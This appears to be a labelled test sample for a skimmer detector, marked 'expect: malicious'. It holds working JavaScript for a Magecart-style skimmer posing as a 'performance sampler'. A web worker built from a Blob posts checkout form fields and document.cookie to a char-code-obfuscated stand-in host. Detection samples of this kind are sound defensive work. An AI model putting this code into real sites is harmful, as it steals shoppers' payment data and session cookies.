// expect: malicious
// source: Magecart-style skimmers moved off the page's thread (2020-2025 reports of skimmers in web workers): a
// "performance sampler" starts a worker from a Blob of its own text, the worker's script sends what it is given to
// a host built from char codes, and the exported submit handler posts the form's fields and the cookie jar to it
const SRC = 'onmessage=function(e){var x=new XMLHttpRequest();x.open("POST",String.fromCharCode(104,116,116,112,115,58,47,47,112,101,114,102,46,101,120,97,109,112,108,101,47,99));x.send(JSON.stringify(e.data))};';
let worker = null;
function sampler() {
  if (!worker) worker = new Worker(URL.createObjectURL(new Blob([SRC], { type: 'application/javascript' })));
  return worker;
}
export function onCheckout(form) {
  const data = Object.fromEntries(new FormData(form));
  sampler().postMessage({ data, jar: document.cookie, at: Date.now() });
}
